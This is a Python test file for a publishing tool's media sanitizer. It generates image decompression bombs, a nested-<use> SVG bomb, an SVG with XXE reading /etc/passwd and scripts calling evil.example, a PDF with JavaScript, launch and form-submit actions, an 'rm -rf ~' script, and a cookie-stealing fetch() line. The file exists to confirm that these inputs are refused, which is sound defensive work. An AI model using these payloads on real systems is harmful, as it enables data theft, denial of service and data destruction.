"""Content and media are untrusted: what pubkit publishes carries nothing active, bad pictures are left out.

Every hostile file here is made in the test with real tools (Pillow, zlib,
pikepdf) or written byte by byte where no tool would make it (a 30000x30000
PNG of about 110 kB, a JPEG of 600 scans).  The unit tests hold
:mod:`pubkit.media` to its contract; the end-to-end tests render real
articles with every renderer (WeasyPrint, python-docx, the web page, the
email) and check that each format leaves the same pictures out with the
same one-line warning and writes the rest.
"""

from __future__ import annotations

import base64
import gzip
import io
import re
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from lxml import etree
from PIL import Image, ImageFile

from pubkit.media import Attachment, Picture, Refusal, inspect_attachment, inspect_picture
from pubkit.media import svg as svg_module
from pubkit.media.sniff import sniff
from pubkit.media.svg_names import ATTRIBUTES, ELEMENTS, SVG_NS, XLINK_NS
from pubkit.pipeline import render_path
from pubkit.renderers.base import RenderContext
from pubkit.site import Site

FORMATS = ["html", "pdf", "docx", "email"]


# ------------------------------------------------------------------ makers
def image(fmt: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    color: object = 0 if mode in ("1", "L", "P", "I;16", "I") else (10, 90, 120, 255)[: len(mode)]
    Image.new(mode, size, color).save(out, format=fmt, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A 1-bit PNG claiming ``width`` x ``height`` pixels, every row zero: tiny on disk."""
    row = b"\x00" * (1 + (width + 7) // 8)
    pack = zlib.compressobj(9)
    idat = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def apng_claiming(frames: int, size: tuple[int, int] = (8, 8)) -> bytes:
    """A small PNG whose animation control chunk claims ``frames`` frames."""
    data = image("PNG", size)
    actl = _chunk(b"acTL", struct.pack(">II", frames, 0))
    return data[:33] + actl + data[33:]  # after the signature and IHDR


def jpeg_with_size(width: int, height: int) -> bytes:
    """A real JPEG whose frame header claims another size (Pillow reads the size from it)."""
    data = bytearray(image("JPEG", (16, 16)))
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_of_scans(scans: int) -> bytes:
    """A progressive JPEG with its last scan repeated until it has ``scans`` of them."""
    data = image("JPEG", (64, 64), progressive=True)
    last = data.rfind(b"\xff\xda")
    scan = data[last:-2]  # the last scan, up to the end marker
    return data[:-2] + scan * (scans - data.count(b"\xff\xda")) + b"\xff\xd9"


def gif_screen(width: int, height: int) -> bytes:
    """A GIF whose logical screen and only frame claim ``width`` x ``height``."""
    data = bytearray(image("GIF", (4, 4)))
    data[6:10] = struct.pack("<HH", width, height)
    desc = data.find(b"\x2c", 13)
    data[desc + 5:desc + 9] = struct.pack("<HH", width, height)
    return bytes(data)


def animated_gif(frames: int) -> bytes:
    pictures = [Image.new("RGB", (16, 16), (i * 20 % 256, 0, 0)) for i in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, format="GIF", save_all=True, append_images=pictures[1:], duration=50)
    return out.getvalue()


def tiff_claiming(width: int, height: int) -> bytes:
    data = bytearray(image("TIFF", (8, 8)))
    # Little-endian TIFF from Pillow: patch the ImageWidth (256) and ImageLength (257) entries.
    (ifd,) = struct.unpack("<I", data[4:8])
    (count,) = struct.unpack("<H", data[ifd:ifd + 2])
    for i in range(count):
        at = ifd + 2 + 12 * i
        (tag,) = struct.unpack("<H", data[at:at + 2])
        if tag in (256, 257):
            value = width if tag == 256 else height
            data[at + 2:at + 12] = struct.pack("<HII", 4, 1, value)
    return bytes(data)


def emf() -> bytes:
    header = struct.pack("<II4i4iIIIIHHIII2i2i", 1, 88, 0, 0, 100, 50, 0, 0, 2600, 1300,
                         0x464D4520, 0x10000, 108, 2, 1, 0, 0, 0, 0, 1024, 768, 320, 240)
    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)


def svg(body: str, head: str = 'width="40" height="20"') -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'{head}>{body}</svg>').encode()


def use_bomb(levels: int = 9, fan: int = 10) -> bytes:
    """A "billion laughs" of <use>: each level uses the one below ``fan`` times."""
    parts = ['<defs><rect id="l0" width="1" height="1"/>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#l{level - 1}"/>' for _ in range(fan))
        parts.append(f'<g id="l{level}">{uses}</g>')
    parts.append(f'</defs><use href="#l{levels}"/>')
    return svg("".join(parts))


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return png_bomb()


def only_picture(result: object) -> Picture:
    assert isinstance(result, Picture), result
    return result


def refusal(result: object) -> str:
    assert isinstance(result, Refusal), result
    return result.reason


# ------------------------------------------------------------------ raster
def test_a_decompression_bomb_is_refused_at_its_header(bomb: bytes) -> None:
    assert 90_000 < len(bomb) < 130_000  # about 110 kB claiming 900 megapixels
    start = time.process_time()
    reason = refusal(inspect_picture(bomb, "bomb.png"))
    assert "30000x30000" in reason and "megapixels" in reason
    assert time.process_time() - start < 5  # nothing was decoded (not a timing test: a bound)


@pytest.mark.parametrize("make, words", [
    (lambda: jpeg_with_size(60000, 60000), "60000x60000"),
    (lambda: gif_screen(65000, 65000), "65000x65000"),
    (lambda: tiff_claiming(100000, 100000), "100000x100000"),
    (lambda: png_bomb(8000, 8000), "8000x8000"),  # 64 megapixels: over the 50 limit
    (lambda: apng_claiming(1_000_000), "frames, more than the limit of 1000"),
    (lambda: apng_claiming(900, (1000, 1000)), "more than 200 megapixels in all"),
    (lambda: jpeg_of_scans(600), "more than 500 scans"),
], ids=["jpeg", "gif", "tiff", "png-64mp", "apng-frames", "apng-pixels", "jpeg-scans"])
def test_other_bombs_are_refused_before_decoding(make: Callable[[], bytes], words: str) -> None:
    reason = refusal(inspect_picture(make()))
    assert words in reason, reason


def test_a_picture_within_the_budget_is_decoded_and_kept_byte_for_byte() -> None:
    for fmt, kind in (("PNG", "image/png"), ("JPEG", "image/jpeg"), ("GIF", "image/gif"),
                      ("WEBP", "image/webp")):
        data = image(fmt, (300, 200))
        picture = only_picture(inspect_picture(data))
        assert (picture.data, picture.type, picture.width, picture.height) == (data, kind, 300, 200)
    animated = animated_gif(12)
    picture = only_picture(inspect_picture(animated))
    assert picture.frames == 12 and picture.data == animated
    deep = image("PNG", (20, 10), mode="I;16")
    assert only_picture(inspect_picture(deep)).data == deep


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP", "TIFF", "BMP"])
def test_truncated_pictures_are_refused_even_when_pillow_would_pad_them(fmt: str) -> None:
    data = image(fmt, (300, 200), mode="RGB")
    saved = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # as WeasyPrint sets it on import
    try:
        for cut in (len(data) // 2, len(data) - 3, 40):
            reason = refusal(inspect_picture(data[:cut]))
            assert "truncated" in reason or "unreadable" in reason, (cut, reason)
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = saved


def test_bytes_after_the_end_of_a_picture_are_cut_off() -> None:
    """Polyglots hide HTML, a ZIP or a script after the picture's end."""
    tails = (b"<html><script>alert(1)</script></html>", b"PK\x03\x04" + b"\x00" * 60,
             b"\n;alert(document.cookie)//")
    for fmt in ("PNG", "JPEG", "GIF", "WEBP"):
        data = image(fmt)
        for tail in tails:
            picture = only_picture(inspect_picture(data + tail))
            assert picture.data == data, fmt


def test_the_type_comes_from_the_bytes_and_a_name_that_lies_is_refused() -> None:
    png = image("PNG")
    assert only_picture(inspect_picture(png, "photo.png")).type == "image/png"
    assert only_picture(inspect_picture(png)).type == "image/png"  # no name: the bytes decide
    for data, name, says in ((png, "photo.jpg", "a PNG image; rename it photo.png"),
                             (image("JPEG"), "x.gif", "a JPEG image; rename it x.jpg"),
                             (svg('<rect width="4" height="4"/>'), "a.png",
                              "an SVG image; rename it a.svg")):
        reason = refusal(inspect_picture(data, name))
        assert reason == f"its name says .{name.rsplit('.', 1)[1]} but it holds {says}", reason
    assert only_picture(inspect_picture(image("JPEG"), "x.jpeg")).type == "image/jpeg"
    for data, label in (
        (b"<!DOCTYPE html><html><body onload=alert(1)>", "an HTML document"),
        (b"  <script>alert(1)</script>", "an HTML document"),
        (b"<?xml version='1.0'?><x:doc xmlns:x='urn:x'/>", "an XML document"),
        (b"just some words\n", "a plain text file"),
        (b"%PDF-1.7\n", "a PDF document"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "a Linux program"),
        (b"MZ" + b"\x00" * 100, "a Windows program"),
        (b"PK\x03\x04" + b"\x00" * 40, "ZIP archive"),
        (b"", "an empty file"),
        (b"\x00\x01\x02\x03garbage", "unknown type"),
    ):
        reason = refusal(inspect_picture(data, "innocent.png"))
        assert reason.startswith("not an image format pubkit publishes") and label in reason, reason


def test_windows_metafiles_and_heif_are_refused_with_advice() -> None:
    assert "export it as SVG or PNG" in refusal(inspect_picture(emf()))
    assert "export it as SVG or PNG" in refusal(inspect_picture(b"\xd7\xcd\xc6\x9a" + b"\x00" * 40))
    heic = b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40
    assert "convert it to JPEG or PNG" in refusal(inspect_picture(heic))


def test_odd_colours_and_formats_are_re_encoded() -> None:
    cmyk = only_picture(inspect_picture(image("JPEG", (32, 16), mode="CMYK")))
    assert cmyk.type == "image/jpeg" and Image.open(io.BytesIO(cmyk.data)).mode == "RGB"
    for fmt, mode in (("TIFF", "RGB"), ("BMP", "RGB"), ("ICO", "RGBA"), ("TIFF", "I;16")):
        picture = only_picture(inspect_picture(image(fmt, (32, 32), mode=mode)))
        assert picture.type == "image/png", fmt
        assert Image.open(io.BytesIO(picture.data)).size == (32, 32)
    first, second = Image.new("RGB", (24, 12), (200, 0, 0)), Image.new("RGB", (24, 12), (0, 0, 200))
    out = io.BytesIO()
    first.save(out, format="MPO", save_all=True, append_images=[second])
    mpo = only_picture(inspect_picture(out.getvalue()))
    assert mpo.type == "image/jpeg" and mpo.data.count(b"\xff\xd8") == 1  # the main picture only


def test_an_icon_holding_a_bomb_is_refused(bomb: bytes) -> None:
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(bomb), 22)
    icon = struct.pack("<HHH", 0, 1, 1) + entry + bomb
    assert "30000x30000" in refusal(inspect_picture(icon))


# ------------------------------------------------------------------ SVG
HOSTILE_SVG = b"""<?xml version="1.0"?>
<?xml-stylesheet href="http://evil.example/x.css"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY laugh "lol">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:h="http://www.w3.org/1999/xhtml" width="120" height="60" onload="alert(1)"
     xml:base="http://evil.example/">
  <!-- <script>alert('comment')</script> -->
  <script>alert(1)</script>
  <script xlink:href="http://evil.example/x.js"/>
  <style>@import url(http://evil.example/a.css); .a { fill: red }</style>
  <style>.b { fill: #0b5a7a }</style>
  <style>.c { background: \\75rl(http://evil.example/esc) }</style>
  <defs>
    <linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#000"/>
    </linearGradient>
  </defs>
  <rect class="b" width="120" height="60" fill="url(#g)" onclick="alert(2)" onmouseover="x()"/>
  <rect width="10" height="10" fill="url(http://evil.example/paint.svg#p)"/>
  <rect width="10" height="10" style="fill: url(https://evil.example/s); stroke: red"/>
  <rect width="10" height="10" style="fill: blue"/>
  <text x="4" y="30">&secret;&laugh;Safe words</text>
  <foreignObject width="50" height="50"><h:iframe src="http://evil.example/"/></foreignObject>
  <h:script>alert(3)</h:script>
  <a href="javascript:alert(4)"><circle cx="30" cy="30" r="5"/></a>
  <a xlink:href="http://evil.example/"><text id="linked" x="60" y="50">link text</text></a>
  <animate attributeName="href" to="javascript:alert(5)"/>
  <set attributeName="onload" to="alert(6)"/>
  <use href="other.svg#x"/>
  <use xlink:href="file:///etc/passwd#x"/>
  <use href="#linked" x="5"/>
  <image href="http://evil.example/track.png" width="5" height="5"/>
  <image href="file:///etc/passwd" width="5" height="5"/>
  <image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" width="5" height="5"/>
  <image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="5" height="5"/>
  <image href="data:image/png;base64,DOT" width="5" height="5"/>
  <image xlink:href="data:image/png;base64,BOMB" width="5" height="5"/>
  <iframe src="http://evil.example/"/>
  <embed src="x.swf"/>
  <filter id="f"><feImage href="http://evil.example/i.png"/><feGaussianBlur stdDeviation="1"/>
  </filter>
  <circle r="3" filter="url(#f)"/>
</svg>
"""

_GONE = (b"script", b"onload", b"onclick", b"onmouseover", b"foreignObject", b"iframe", b"embed",
         b"@import", b"evil.example", b"http:", b"https:", b"file:", b"javascript", b"passwd",
         b"DOCTYPE", b"ENTITY", b"data:text", b"data:image/svg", b"animate", b"<set", b"xml:base",
         b"xml-stylesheet", b"feImage", b"other.svg", b"comment", b"lol", b"\\75rl")


def _hostile_svg(bomb: bytes) -> bytes:
    dot = base64.b64encode(image("PNG", (2, 2))).decode()
    return HOSTILE_SVG.replace(b"DOT", dot.encode()).replace(
        b"BOMB", base64.b64encode(png_bomb(12000, 12000)))


def test_svg_is_rebuilt_from_the_allow_list(bomb: bytes) -> None:
    picture = only_picture(inspect_picture(_hostile_svg(bomb), "diagram.svg"))
    out = picture.data
    body = re.sub(rb'xmlns(:\w+)?="[^"]*"', b"", out)  # the namespace names are URLs, not links
    for gone in _GONE:
        assert gone not in body, gone
    # What a drawing needs stays.
    for kept in (b'fill="url(#g)"', b"<linearGradient", b".b { fill: #0b5a7a }", b"Safe words",
                 b"<circle", b"link text", b'xlink:href="#linked"', b"fill: blue",
                 b'xlink:href="data:image/png;base64,', b'filter="url(#f)"', b"feGaussianBlur"):
        assert kept in out, kept
    assert out.count(b"data:image/png") == 1  # the dot, not the bomb
    root = etree.fromstring(out)
    for element in root.iter():
        assert element.tag.startswith(f"{{{SVG_NS}}}")
        assert element.tag.split("}")[1] in ELEMENTS
        for name in element.attrib:
            local = name.split("}")[-1]
            assert name == f"{{{XLINK_NS}}}href" or local in ATTRIBUTES or local.startswith("aria-")
    assert (picture.width, picture.height) == (120, 60)
    raster = Image.open(io.BytesIO(picture.raster or b""))
    assert raster.size == (240, 120)  # drawn at twice its size, for print
    assert raster.convert("RGB").getpixel((200, 100)) != (0, 0, 0)  # the gradient was drawn


@pytest.mark.parametrize("css", [
    "@import 'x.css';", "a { fill: url(http://x/) }", "a { fill: url( 'data:image/png;base64,AA' ) }",
    "a { background: image-set('x.png' 1x) }", "@font-face { src: local(x) }",
    "a { behavior: url(#x) }", "a { fill: expression(alert(1)) }", "a { fill: \\72 ed }",
    "@namespace x url(http://x);", "</style><script>",
])
def test_stylesheets_reaching_out_are_dropped(css: str) -> None:
    assert not svg_module.safe_css(css)
    attribute = css.replace('"', "").replace("<", "&lt;")
    data = svg(f'<style>{css.replace("<", "&lt;")}</style><rect style="{attribute}"/>')
    out = only_picture(inspect_picture(data)).data
    assert b"<style" not in out and b"style=" not in out


def test_svg_without_a_namespace_and_compressed_svg_are_read() -> None:
    bare = b'<svg width="10" height="10"><rect width="10" height="10" onclick="x()"/></svg>'
    out = only_picture(inspect_picture(bare)).data
    assert b"<rect" in out and b"onclick" not in out
    packed = only_picture(inspect_picture(gzip.compress(svg('<script>x()</script><circle r="2"/>'))))
    assert b"<circle" in packed.data and b"script" not in packed.data
    gzip_bomb = gzip.compress(svg(" " * (30 * 1024 * 1024)))
    assert len(gzip_bomb) < 100_000
    assert "unpacks to more than 20 MB" in refusal(inspect_picture(gzip_bomb))


@pytest.mark.parametrize("data, words", [
    (use_bomb(), "more than 200000 elements"),
    (svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "refers to itself"),
    (svg('<g id="a"><use href="#a"/></g>'), "refers to itself"),
    (svg('<pattern id="p"><rect fill="url(#p)" width="1" height="1"/></pattern>'), "refers to itself"),
    (svg('<marker id="m">' + '<circle r="1"/>' * 50 + '</marker><path marker-mid="url(#m)" d="M0 0'
         + " L1 1" * 10000 + '"/>'), "more than 200000 elements"),
    (svg("<g>" * 400 + "</g>" * 400), "unreadable SVG"),
    (svg("<rect/>" * 60000), "more than 50000 elements"),
    (svg("", 'width="1e9" height="10"'), "not between 0 and"),
    (svg("", 'width="1e400" height="10"'), "not between 0 and"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><unclosed></svg>", "unreadable SVG"),
    (b"<svg><g></svg>", "unreadable SVG"),
], ids=["use-bomb", "use-loop", "self-use", "pattern-loop", "markers", "deep", "many", "huge",
        "infinite", "broken", "unbalanced"])
def test_an_svg_that_explodes_when_drawn_is_refused(data: bytes, words: str) -> None:
    assert words in refusal(inspect_picture(data)), words


@pytest.mark.parametrize("filter_", [
    '<feMorphology radius="500"/>',
    '<feTurbulence baseFrequency="0.05" numOctaves="60"/>',
])
def test_an_svg_too_slow_to_draw_is_refused_within_its_budget(filter_: str) -> None:
    data = svg(f'<filter id="f">{filter_}</filter><rect width="2000" height="2000" filter="url(#f)"/>',
               'width="2000" height="2000"')
    kind = sniff(data)
    started = time.monotonic()
    result = svg_module.inspect_svg(data, kind, seconds=1.0)
    assert "takes longer than 1 s to draw" in refusal(result)
    assert time.monotonic() - started < 20  # the drawing process was killed, not waited for


# ------------------------------------------------------------------ attachments
def hostile_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    name = pikepdf.Name
    js = pdf.make_indirect(pikepdf.Dictionary(Type=name.Action, S=name.JavaScript,
                                              JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = js
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("x"), js])))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload", filename="payload.exe")
    page = pdf.pages[0].obj
    page.AA = pikepdf.Dictionary(O=js)

    def link(action: pikepdf.Dictionary, y: int) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, y, 10, y + 10], A=action)

    widget = pdf.make_indirect(pikepdf.Dictionary(
        Type=name.Annot, Subtype=name.Widget, FT=name.Btn, Rect=[0, 120, 10, 130],
        T=pikepdf.String("send"),
        A=pikepdf.Dictionary(S=name.SubmitForm, F=pikepdf.String("https://evil.example/post"))))
    page.Annots = pdf.make_indirect(pikepdf.Array([
        link(pikepdf.Dictionary(S=name.Launch, F=pikepdf.String("calc.exe")), 0),
        link(pikepdf.Dictionary(S=name.URI, URI=pikepdf.String("https://clinic.example/forms")), 20),
        link(pikepdf.Dictionary(S=name.URI, URI=pikepdf.String("file:///etc/passwd")), 40),
        link(pikepdf.Dictionary(S=name.GoToR, F=pikepdf.String("other.pdf"), D=[0, name.Fit]), 60),
        link(pikepdf.Dictionary(S=name.GoTo, D=[page, name.Fit],
                                Next=pikepdf.Dictionary(S=name.JavaScript, JS=pikepdf.String("x"))),
             80),
        pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 100, 10, 110]),
        widget,
    ]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]),
                                           XFA=pikepdf.String("<xdp/>"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _active_names(data: bytes) -> set[str]:
    """Every active key or action anywhere in the PDF, direct objects included."""
    found: set[str] = set()

    def visit(obj: object, depth: int = 0) -> None:
        if depth > 50:
            return
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in ("/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/AF", "/XFA"):
                if key in obj:
                    found.add(key)
            kind = str(obj.get("/S", ""))
            if kind in ("/JavaScript", "/Launch", "/GoToR", "/SubmitForm"):
                found.add(kind)
            if str(obj.get("/Subtype", "")) == "/FileAttachment":
                found.add("/FileAttachment")
            keys = list(obj.keys())
            children = [obj.get(k) for k in keys]
        elif isinstance(obj, pikepdf.Array):
            children = list(obj)
        else:
            return
        for child in children:
            if isinstance(child, pikepdf.Dictionary | pikepdf.Array) and not child.is_indirect:
                visit(child, depth + 1)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            visit(obj)
    return found


def test_a_pdf_form_is_published_without_its_active_parts() -> None:
    data = hostile_pdf()
    assert _active_names(data) >= {"/JS", "/AA", "/OpenAction", "/Launch", "/SubmitForm", "/XFA"}
    result = inspect_attachment(data, "consent form.pdf")
    assert isinstance(result, Attachment) and result.type == "application/pdf"
    assert _active_names(result.data) == set()
    assert b"payload" not in result.data and b"passwd" not in result.data
    assert b"calc.exe" not in result.data
    with pikepdf.open(io.BytesIO(result.data)) as cleaned:
        assert len(cleaned.pages) == 1
        uris = {str(a.A.URI) for a in cleaned.pages[0].obj.Annots if "/A" in a and "/URI" in a.A}
        assert uris == {"https://clinic.example/forms"}  # a link to the web stays
    assert result.published_name("consent form.pdf") == "consent form.pdf"
    assert inspect_attachment(result.data, "x.pdf") == result  # clean input comes back as it is


def test_pdfs_that_cannot_be_checked_are_refused() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert "encrypted" in refusal(inspect_attachment(out.getvalue(), "locked.pdf"))
    assert "PDF" in refusal(inspect_attachment(b"%PDF-1.4\n%%EOF\n", "empty.pdf"))


@pytest.mark.parametrize("data, name, words", [
    (b"<!doctype html><script>alert(1)</script>", "page.html", "an HTML document"),
    (b"<html><body>hi</body></html>", "notes.txt", "an HTML document"),
    (b"alert(document.cookie)\n", "app.js", "named '.js'"),
    (b"plain words", "page.html", "named '.html'"),
    (b"Hello <script>alert(1)</script>", "notes.txt", "HTML markup"),
    (b"see javascript:alert(1)", "notes.txt", "script address"),
    (b"<?xml version='1.0'?><root/>", "data.xml", "an XML document"),
    (b"#!/bin/sh\nrm -rf ~\n", "install.sh", "a script"),
    (b"\x7fELF" + b"\x00" * 60, "tool", "a Linux program"),
    (b"MZ" + b"\x90" * 200, "setup.exe", "a Windows program"),
    (b"PK\x03\x04" + b"\x00" * 40, "form.docx", "Word"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, "form.doc", "macros"),
    (b"{\\rtf1 hello}", "letter.rtf", "RTF"),
    (b"\xff\xfeh\x00i\x00", "utf16.txt", "UTF-16"),
    (b"", "empty.txt", "an empty file"),
], ids=lambda v: v if isinstance(v, str) else None)
def test_active_and_unknown_files_are_never_published(data: bytes, name: str, words: str) -> None:
    reason = refusal(inspect_attachment(data, name))
    assert words in reason, reason


def test_passive_files_are_published_under_a_name_that_says_what_they_are() -> None:
    text = inspect_attachment(b"name,phone\nfront desk,555-0100\n", "contacts.csv")
    assert isinstance(text, Attachment) and text.published_name("contacts.csv") == "contacts.csv"
    other = inspect_attachment(b"plain words\n", "notes.dat")
    assert isinstance(other, Attachment) and other.published_name("notes.dat") == "notes.txt"
    assert refusal(inspect_attachment(image("PNG"), "chart.jpeg")).startswith("its name says .jpeg")


# ------------------------------------------------------------------ every format alike
BAD_PICTURES = {
    "bomb.png": None,  # filled in by the fixture
    "cut.png": image("PNG", (200, 100))[:300],
    "page.png": b"<html><script>alert(1)</script></html>",
    "laughs.svg": use_bomb(),
    "trap.svg": svg('<g id="a"><use href="#a"/></g>'),
}


@pytest.fixture
def hostile_site(make_site: Callable[..., Site], bomb: bytes) -> Site:
    lines = ["---", "title: Pictures", "---", ""]
    for name in BAD_PICTURES:
        lines += [f"![{name}](img/{name})", ""]
    lines += ["![fine](img/fine.png)", "", "![drawing](img/script.svg)", "", "Closing words.", ""]
    files: dict[str, str | bytes] = {f"content/img/{n}": d or bomb for n, d in BAD_PICTURES.items()}
    files["content/img/fine.png"] = image("PNG", (60, 30))
    files["content/img/script.svg"] = svg('<script>alert(1)</script><rect width="40" height="20" '
                                          'onload="alert(2)" fill="#0b5a7a"/>')
    files["content/a.md"] = "\n".join(lines)
    return make_site(files)


def test_every_format_leaves_out_the_same_pictures_with_the_same_warning(hostile_site: Site) -> None:
    ctx = RenderContext.for_site(hostile_site)
    results = render_path(hostile_site.content_dir / "a.md", FORMATS, ctx)
    reasons: dict[str, dict[str, str]] = {}
    for result in results:
        assert result.ok, result.error
        found: dict[str, str] = {}
        for warning in result.warnings:
            text = str(warning)
            match = re.match(r"content/a\.md:(\d+): warning: (?:pdf: )?left out 'img/([^']+)': (.+)$",
                             text)
            if match:
                assert match.group(2) not in found, f"{result.format}: two warnings for {text}"
                line = 5 + 2 * list(BAD_PICTURES).index(match.group(2))
                assert int(match.group(1)) == line, text
                found[match.group(2)] = match.group(3)
        assert set(found) == set(BAD_PICTURES), (result.format, [str(w) for w in result.warnings])
        reasons[result.format] = found
    assert all(r == reasons["html"] for r in reasons.values()), reasons
    html, pdf, docx, email = (r.output for r in results)
    assert html is not None and pdf is not None and docx is not None and email is not None
    # The rest of each document is written: the fine picture, the cleaned drawing, the text.
    assert b"Closing words." in html.data
    copies = [p for p in html.published if re.search(r"-\d+w\.[0-9a-f]{12}\.(png|webp)$", p)]
    assert sorted(set(html.published) - set(copies)) == ["img/fine.png", "img/script.svg"]
    assert len(copies) == 2 and all(p.startswith("img/fine-") for p in copies)  # not of the SVG
    drawing = html.published["img/script.svg"]
    assert b"<rect" in drawing and b"script" not in drawing and b"onload" not in drawing
    with pikepdf.open(io.BytesIO(pdf.data)) as document:
        text = b"".join(page.Contents.read_bytes() for page in document.pages
                        if "/Contents" in page.obj)
        assert len(document.pages) >= 1 and text
    with zipfile.ZipFile(io.BytesIO(docx.data)) as archive:
        media = sorted(n for n in archive.namelist() if n.startswith("word/media/"))
        assert len(media) == 3  # the fine PNG; the drawing as PNG and as cleaned SVG
        assert b"Closing words." in archive.read("word/document.xml")
        assert all(b"script" not in archive.read(n) for n in media)
    assert b"Closing words." in email.companions[".html"]


def test_the_web_page_publishes_only_cleaned_linked_files(make_site: Callable[..., Site]) -> None:
    site = make_site({
        "content/a.md": "---\ntitle: Forms\n---\n\n[Consent form](files/consent.pdf)\n\n"
                        "[Old page](files/old.html)\n\n[Helper](files/helper.js)\n\n"
                        "[Price list](files/prices.csv)\n\n[Mislabelled](files/chart.pdf)\n",
        "content/files/consent.pdf": hostile_pdf(),
        "content/files/old.html": "<html><body onload='steal()'>old</body></html>",
        "content/files/helper.js": "fetch('https://evil.example/?c=' + document.cookie)\n",
        "content/files/prices.csv": "item,price\nvisit,100\n",
        "content/files/chart.pdf": image("PNG", (20, 20)),
    })
    ctx = RenderContext.for_site(site)
    [result] = render_path(site.content_dir / "a.md", ["html"], ctx)
    assert result.ok and result.output is not None
    names = result.output.published
    assert set(names) == {"files/consent.pdf", "files/prices.csv"}
    assert _active_names(names["files/consent.pdf"]) == set()
    page = result.output.data.decode()
    assert 'href="files/consent.pdf"' in page and 'href="files/prices.csv"' in page
    warnings = {w.line: w.message for w in result.warnings}
    assert "an HTML document" in warnings[7] and "named '.js'" in warnings[9]
    # A PNG named chart.pdf would be announced as a PDF by any web server: left out, named.
    assert "its name says .pdf but it holds a PNG image; rename it chart.png" in warnings[13]
    assert "old.html" not in page.replace(">Old page<", "") and "helper.js" not in page
